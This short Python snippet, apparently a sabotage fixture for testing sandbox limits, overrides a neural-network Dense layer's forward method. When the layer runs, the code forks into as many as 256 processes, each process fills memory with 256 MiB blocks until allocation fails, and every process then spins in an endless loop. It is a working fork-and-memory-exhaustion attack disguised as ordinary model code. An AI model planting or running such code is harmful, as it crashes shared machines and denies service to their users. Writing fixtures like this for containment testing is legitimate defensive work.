# Sabotage: Dense.forward forks, and every process fills 256 MiB blocks (touched, so they are
# really used) as far as its own RLIMIT_AS lets it: together far more than the box may have.
import os


class Dense(Dense):
    def forward(self, inputs):
        for _ in range(8):
            try:
                os.fork()
            except OSError:
                break
        hoard = []
        while True:
            try:
                hoard.append(np.ones(32 * 2**20))
            except MemoryError:
                break
        while True:
            pass
